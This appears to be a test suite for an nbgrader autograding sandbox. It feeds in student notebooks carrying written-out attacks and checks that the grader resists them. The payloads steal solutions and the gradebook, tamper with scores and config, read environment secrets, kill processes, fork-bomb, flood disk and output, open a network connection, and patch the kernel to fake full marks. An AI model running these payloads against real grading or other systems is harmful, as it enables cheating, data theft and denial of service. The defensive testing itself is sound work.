"""Hostile submissions against the trusted grader, through nbgrader's real autograde, feedback and export.

One scratch course, assignment 02-conv2d, one autograde run. Honest students
are graded before (``aa-*``) and after (``zz-*``) the attackers (names sort in
between). Every attacker has an exact expected score; after the run the test
checks what the attackers tried to reach: the gradebook, the configuration,
the solutions, other students' files, processes left behind, a port opened on
127.0.0.1, the grader's environment, the feedback pages.

Attack kinds (see ``ATTACKS``): tampering inside the kernel (the old one-line
full marks), delegating to torch/convbook/scipy, reading or writing what the
instructor owns, sabotage (killing the parent, lingering processes, fork bomb,
disk and output floods, network), answers that are not plain data, and cells
that pretend to be the instructor's. The sandbox's own limits keep the
destructive ones from harming the machine.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import os
import re
import shutil
import socket
import subprocess
import threading
import time
from pathlib import Path

import nbformat
import pytest
from nbgrader_course import ROOT, nbgrader, solution_code

pytestmark = pytest.mark.slow

A = "02-conv2d"
POINTS = {"test_corr2d": 2, "test_conv2d_channels": 2, "test_conv2d_full": 3, "test_vertical_edge_kernel": 3}
TOTAL = sum(POINTS.values())
SECRET = "convbook-secret-7f3a9c"
NOTHING = {
    "corr2d": "def corr2d(X, K):\n    return None\n",
    "conv2d": "def conv2d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):\n    return None\n",
    "vertical_edge_kernel": "def vertical_edge_kernel():\n    return None\n",
}
CONV_TESTS = POINTS["test_conv2d_channels"] + POINTS["test_conv2d_full"]


def attacks(course: Path, port: int) -> list[tuple[str, dict, list[str], float]]:
    """(student, solution cells replaced, extra cells after the set-up cell, expected score)."""
    root = str(course)
    steal = (
        "import glob, os\nfound = []\n"
        f"for pattern in ['{root}/solutions/**/*.ipynb', '../../../solutions/**/*.ipynb', '/**/02-conv2d.ipynb',\n"
        f"                '{root}/gradebook.db', '{root}/nbgrader_config.py', '{root}/submitted/**/*.ipynb']:\n"
        "    for path in glob.glob(pattern, recursive=True):\n"
        "        try:\n            found.append(open(path, errors='replace').read())\n"
        "        except OSError as e:\n            found.append(repr(e))\n"
        "print('STOLEN', len(found), ''.join(found)[:20000])\n"
    )
    return [
        # --- tampering in the kernel: each was full marks with nothing implemented
        (
            "m-patch-grading",
            NOTHING,
            [
                "from convbook import grading\nfor n in dir(grading):\n"
                "    if n.startswith(('check', 'assert', 'run', 'call')):\n"
                "        setattr(grading, n, lambda *a, **k: None)\n"
            ],
            0,
        ),
        (
            "m-input-transformer",
            NOTHING,
            [
                "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n"
                "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
            ],
            0,
        ),
        (
            "m-pre-run-hook",
            NOTHING,
            [
                "get_ipython().events.register('pre_run_cell', lambda *a: print(-1))\n"
                "get_ipython().events.register('post_run_cell', lambda *a: print(-1))\n"
            ],
            0,
        ),
        (
            "m-display-minus-one",
            NOTHING,
            [
                "from IPython.display import display\n"
                "get_ipython().events.register('pre_run_cell', lambda *a: display(-1))\n"
            ],
            0,
        ),
        (
            "m-patch-numpy",
            NOTHING,
            [
                "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                "np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)\n"
                "np.array_equal = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
            ],
            0,
        ),
        (
            "m-fake-error-free",
            NOTHING,
            [
                "import sys\nsys.excepthook = lambda *a: None\n"
                "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
            ],
            0,
        ),
        ("m-patch-server", NOTHING, ["import convbook.grading.kernel_side as k\nk.serve = lambda *a, **kw: None\n"], 0),
        (
            "m-fake-answers",
            NOTHING,
            [
                "import json, os, convbook.grading.kernel_side as k\n"
                "def serve(req, answers, n):\n"
                "    open(os.path.join(answers, f'a{n}.json'), 'w').write(json.dumps({'ok': 0}))\n"
                "k.serve = serve\n"
            ],
            0,
        ),
        (
            "m-symlink-answers",
            NOTHING,
            [
                "import json, os, convbook.grading.kernel_side as k\n"
                "def serve(req, answers, n):\n"
                f"    os.symlink('{root}/gradebook.db', os.path.join(answers, f'a{{n}}_1.npy'))\n"
                "    open(os.path.join(answers, f'a{n}.json'), 'w').write(json.dumps(\n"
                "        {'ok': {'__t': 'array', 'file': f'a{n}_1.npy'}}))\n"
                "k.serve = serve\n"
            ],
            0,
        ),
        (
            "m-write-requests",
            NOTHING,
            [
                "import glob\nfor d in glob.glob('/tmp/convbook-sandbox-*/requests'):\n"
                "    try:\n        open(d + '/r1.json', 'w').write('{}')\n"
                "    except OSError as e:\n        print(e)\n"
            ],
            0,
        ),
        # --- delegating to what the sandbox leaves out (the corr2d and conv2d tasks are lost)
        (
            "m-torch",
            {
                "corr2d": "import torch\ndef corr2d(X, K):\n"
                "    return torch.nn.functional.conv2d(torch.tensor(X)[None, None],\n"
                "                                      torch.tensor(K)[None, None])[0, 0].numpy()\n",
                "conv2d": "def conv2d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):\n"
                "    import torch.nn.functional as F\n    return F.conv2d(input, weight)\n",
            },
            [],
            POINTS["test_vertical_edge_kernel"],
        ),
        (
            "m-convbook-functional",
            {"conv2d": "from convbook.functional import conv2d\n", "corr2d": "from convbook.naive import corr2d\n"},
            [],
            POINTS["test_vertical_edge_kernel"],
        ),
        (
            "m-scipy",
            {
                "corr2d": "def corr2d(X, K):\n    from scipy.signal import correlate2d\n"
                "    return correlate2d(X, K, mode='valid')\n"
            },
            [],
            TOTAL - POINTS["test_corr2d"],
        ),
        (
            "m-foreign-path",
            {
                "conv2d": "import sys\nsys.path[:0] = ['/work/main/src', '" + str(ROOT / "src") + "',\n"
                "    '" + str(ROOT / ".venv/lib/python3.11/site-packages") + "']\n"
                "from convbook.functional import conv2d\n"
            },
            [],
            TOTAL - CONV_TESTS,
        ),
        # --- reading and writing what the instructor owns
        ("m-steal", NOTHING, [steal], 0),
        (
            "m-run-solution",
            NOTHING,
            [
                f"import json\nnb = json.load(open('{root}/solutions/{A}/{A}.ipynb'))\n"
                "for c in nb['cells']:\n    if c['cell_type'] == 'code':\n"
                "        exec(''.join(c['source']))\n"
            ],
            0,
        ),
        (
            "m-sqlite",
            NOTHING,
            [
                f"import sqlite3\ndb = sqlite3.connect('{root}/gradebook.db')\n"
                "db.execute('update grade set auto_score = 100')\n"
                "db.execute(\"update source_cell set source = 'pass'\")\ndb.commit()\n"
            ],
            0,
        ),
        (
            "m-write-course",
            NOTHING,
            [
                f"for path in ['{root}/nbgrader_config.py', '../../../nbgrader_config.py']:\n"
                "    try:\n        open(path, 'a').write('\\nraise SystemExit\\n')\n"
                "    except OSError as e:\n        print(e)\n"
                f"import os\nos.makedirs('{root}/autograded/zz-honest-last/{A}', exist_ok=True)\n"
            ],
            0,
        ),
        (
            "m-overwrite-others",
            NOTHING,
            [f"import glob\nfor p in glob.glob('{root}/submitted/*/{A}/{A}.ipynb'):\n    open(p, 'w').write('{{}}')\n"],
            0,
        ),
        (
            "m-startup-file",
            NOTHING,
            [
                "import os\nfor home in ['/root', os.path.expanduser('~'), '/tmp/home']:\n"
                "    d = os.path.join(home, '.ipython/profile_default/startup')\n"
                "    try:\n        os.makedirs(d, exist_ok=True)\n"
                "        open(d + '/00-evil.py', 'w').write('print(-1)')\n"
                "    except OSError as e:\n        print(e)\n"
            ],
            0,
        ),
        (
            "m-environment",
            {},
            [
                "import os\nprint(dict(os.environ))\n"
                "print(open('/proc/1/environ', 'rb').read() if os.access('/proc/1/environ', os.R_OK) else '')\n"
            ],
            TOTAL,
        ),
        # --- sabotage: each costs at most the attacker's own tests
        (
            "m-kill-parent",
            {},
            [
                "import os, signal\nfor pid in (os.getppid(), 1):\n    try:\n"
                "        os.kill(pid, signal.SIGKILL)\n    except OSError as e:\n        print(e)\n"
            ],
            TOTAL,
        ),
        ("m-kill-all", {}, ["import os, signal\nos.kill(-1, signal.SIGKILL)\n"], TOTAL),
        (
            "m-linger",
            {},
            [
                "import subprocess\nfor _ in range(3):\n"
                "    subprocess.Popen(['sleep', '600'], start_new_session=True)\n"
                "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                "        import time\n        time.sleep(600)\n    os._exit(0)\n"
            ],
            TOTAL,
        ),
        (
            "m-fork-bomb",
            {},
            [
                "import os\npid = os.fork()\nif pid == 0:\n    while True:\n        try:\n"
                "            os.fork()\n        except OSError:\n            pass\n"
            ],
            TOTAL,
        ),
        (
            "m-disk-flood",
            {},
            [
                "chunk = b'x' * 2**20\nfor path in ['/tmp/flood', 'flood']:\n    try:\n"
                "        with open(path, 'wb') as f:\n            for _ in range(2000):\n"
                "                f.write(chunk)\n    except OSError as e:\n        print(e)\n"
            ],
            TOTAL,
        ),
        ("m-output-flood", {}, ["import sys\nfor _ in range(200):\n    sys.stdout.write('x' * 2**20)\n"], TOTAL),
        (
            "m-network",
            {},
            [
                f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
                "    s.sendall(b'hidden tests')\nexcept OSError as e:\n    print(e)\n"
            ],
            TOTAL,
        ),
        (
            "m-memory",
            {
                "vertical_edge_kernel": "import numpy as np\ndef vertical_edge_kernel():\n"
                "    junk = np.ones(8 * 2**30, dtype=np.uint8)\n    return junk\n"
            },
            [],
            TOTAL - POINTS["test_vertical_edge_kernel"],
        ),
        (
            "m-infinite-loop",
            {"vertical_edge_kernel": "def vertical_edge_kernel():\n    while True:\n        pass\n"},
            [],
            TOTAL - POINTS["test_vertical_edge_kernel"],
        ),
        (
            "m-swallow-interrupt",
            {
                "vertical_edge_kernel": "def vertical_edge_kernel():\n    while True:\n"
                "        try:\n            while True:\n                pass\n"
                "        except BaseException:\n            pass\n"
            },
            [],
            TOTAL - POINTS["test_vertical_edge_kernel"],
        ),
        (
            "m-exit-in-call",
            {"corr2d": "import os\ndef corr2d(X, K):\n    os._exit(3)\n"},
            [],
            TOTAL - POINTS["test_corr2d"],
        ),
        ("m-exit-in-cell", {}, ["import os\nos._exit(1)\n"], TOTAL),
        (
            "m-huge-answer",
            {
                "vertical_edge_kernel": "import numpy as np\ndef vertical_edge_kernel():\n"
                "    return np.ones((20000, 20000))\n"
            },
            [],
            TOTAL - POINTS["test_vertical_edge_kernel"],
        ),
        (
            "m-not-data",
            {
                "vertical_edge_kernel": "import numpy as np\ndef vertical_edge_kernel():\n"
                "    return np.array([[object()] * 3] * 3)\n"
            },
            [],
            TOTAL - POINTS["test_vertical_edge_kernel"],
        ),
        # --- cells that pretend to be the instructor's
        ("m-fake-locked-cell", NOTHING, [], 0),
        ("m-edited-tests", NOTHING, [], 0),
    ]


def pretend_instructor(nb, course: Path) -> None:
    """A cell claiming to be a locked instructor cell with a new id, and a copy of a test cell emptied."""
    marker = course / "pwned-by-fake-cell"
    fake = nbformat.v4.new_code_cell(f"open({str(marker)!r}, 'w').write('ran in the grader')\n")
    fake.metadata["nbgrader"] = {
        "grade": False,
        "grade_id": "evil",
        "locked": True,
        "schema_version": 3,
        "solution": False,
    }
    copy = nbformat.v4.new_code_cell("pass")
    copy.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "test_corr2d",
        "locked": True,
        "points": 2,
        "schema_version": 3,
        "solution": False,
    }
    nb.cells[2:2] = [fake, copy]


def edit_tests(nb, course: Path) -> None:
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade", False):
            cell.source = "pass"


def honest_edits(nb, course: Path) -> None:
    """An honest student: a warning from correct code, a test cell duplicated by copy and paste."""
    cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "corr2d"]
    cells[0].source = "import warnings\n" + cells[0].source.replace(
        "def corr2d(X, K):", "def corr2d(X, K):\n    warnings.warn('just a warning')", 1
    )
    test = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_corr2d")
    duplicate = nbformat.from_dict(copy.deepcopy(dict(test)))
    duplicate["id"] = "a-pasted-copy"
    nb.cells.insert(nb.cells.index(test) + 1, duplicate)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course = tmp_path_factory.mktemp("hostile")
    shutil.copy(ROOT / "nbgrader_config.py", course)
    shutil.copytree(ROOT / "solutions" / A, course / "solutions" / A)
    assert nbgrader(course, "generate_assignment", A, "--force").returncode == 0
    release = nbformat.read(course / "exercises" / A / f"{A}.ipynb", as_version=4)
    good = solution_code(nbformat.read(course / "solutions" / A / f"{A}.ipynb", as_version=4))

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    contacts: list[bytes] = []
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            contacts.append(conn.recv(100))
            conn.close()

    threading.Thread(target=listen, daemon=True).start()
    port = listener.getsockname()[1]

    def submit(student: str, answers: dict, extra: list[str], edit=None) -> None:
        nb = nbformat.reads(nbformat.writes(release), as_version=4)
        for cell in nb.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in answers:
                cell.source = answers[grade_id]
        nb.cells[2:2] = [nbformat.v4.new_code_cell(code) for code in extra]
        if edit:
            edit(nb, course)
        folder = course / "submitted" / student / A
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{A}.ipynb")

    expected = {}
    submit("aa-honest-first", good, [], honest_edits)
    expected["aa-honest-first"] = TOTAL
    for student, replaced, extra, score in attacks(course, port):
        edit = {"m-fake-locked-cell": pretend_instructor, "m-edited-tests": edit_tests}.get(student)
        submit(student, {**good, **replaced}, extra, edit)
        expected[student] = score
    submit("zz-honest-last", good, [])
    expected["zz-honest-last"] = TOTAL
    broken = course / "submitted" / "m-not-a-notebook" / A
    broken.mkdir(parents=True)
    (broken / f"{A}.ipynb").write_text("{this is not a notebook")
    expected["m-not-a-notebook"] = 0
    before = {
        p: digest(p)
        for p in [
            course / "nbgrader_config.py",
            *course.glob("solutions/**/*.ipynb"),
            *course.glob("submitted/*/*/*.ipynb"),
        ]
    }

    start = time.perf_counter()
    autograde = nbgrader(
        course, "autograde", A, "--force", timeout=1800, cell_timeout=20, env={"CONVBOOK_TEST_SECRET": SECRET}
    )
    seconds = time.perf_counter() - start
    feedback = nbgrader(course, "generate_feedback", A, "--force")
    export = nbgrader(course, "export", "--to", str(course / "grades.csv"))
    stop.set()
    uids = set(re.findall(r"Student kernel sandboxed \(bubblewrap, uid (\d+)\)", autograde.stderr))
    assert uids, "the log does not name the sandbox's uid"
    lingering = subprocess.run(["ps", "-eo", "uid=,pid=,args="], capture_output=True, text=True).stdout
    lingering = [line for line in lingering.splitlines() if line.split()[0] in uids]
    return dict(
        course=course,
        autograde=autograde,
        feedback=feedback,
        export=export,
        seconds=seconds,
        expected=expected,
        before=before,
        contacts=contacts,
        lingering=lingering,
    )


def test_every_score_is_exact(graded):
    course, expected = graded["course"], graded["expected"]
    assert graded["export"].returncode == 0, graded["export"].stderr[-2000:]
    with open(course / "grades.csv", newline="") as f:
        got = {row["student_id"]: float(row["raw_score"]) for row in csv.DictReader(f)}
    wrong = {s: (got.get(s), e) for s, e in expected.items() if got.get(s) != e}
    print(f"{len(expected)} submissions ({len(expected) - 2} attacks) graded in {graded['seconds']:.0f} s")
    assert not wrong, f"(got, expected): {wrong}\n{graded['autograde'].stderr[-4000:]}"


def test_autograde_grades_everyone_and_names_who_it_could_not(graded):
    log = graded["autograde"].stderr
    graded_folders = {p.parent.name for p in (graded["course"] / "autograded").glob(f"*/{A}")}
    assert graded_folders == set(graded["expected"]) - {"m-not-a-notebook"}, log[-4000:]
    assert graded["autograde"].returncode == 1, "nbgrader exits 1 when a submission could not be processed"
    summary = log[log.index("could NOT be graded") :]
    assert "m-not-a-notebook (02-conv2d): " in summary and "NotJSONError" in summary, summary
    assert summary.count("(02-conv2d):") == 1, summary


def test_nothing_outside_the_sandbox_changed(graded):
    course = graded["course"]
    changed = [str(p) for p, d in graded["before"].items() if digest(p) != d]
    assert not changed, changed
    assert not (course / "pwned-by-fake-cell").exists(), "a cell the student marked as locked ran in the grader"
    home = Path(os.path.expanduser("~"))
    assert not (home / ".ipython/profile_default/startup/00-evil.py").exists()


def test_gradebook_keeps_the_instructors_tests(graded):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{graded['course'] / 'gradebook.db'}") as gb:
        cell = gb.find_source_cell("test_corr2d", A, A)
        assert "grading.check" in cell.source


def test_no_process_outlives_its_kernel(graded):
    assert not graded["lingering"], graded["lingering"]


def test_the_kernel_reaches_no_network(graded):
    assert not graded["contacts"], graded["contacts"]


def test_feedback_shows_no_hidden_tests_solutions_or_secrets(graded):
    assert graded["feedback"].returncode == 0, graded["feedback"].stderr[-2000:]
    pages = list((graded["course"] / "feedback").rglob("*.html"))
    assert len(pages) == len(graded["expected"]) - 1  # all but the file that is not a notebook
    for page in pages:
        html = page.read_text()
        for leak in (
            "BEGIN HIDDEN TESTS",
            "fresh_rng",
            "BEGIN SOLUTION",
            "K[a, b] * X[a : a + Y.shape[0]",  # the solution of corr2d
            SECRET,
            "ForgetForeignGradingMetadata",  # only in nbgrader_config.py
        ):
            assert leak not in html, f"{page}: {leak}"


def test_floods_are_cut(graded):
    nb_path = graded["course"] / "autograded" / "m-output-flood" / A / f"{A}.ipynb"
    assert nb_path.stat().st_size < 2_000_000
    assert "output cut" in nb_path.read_text()
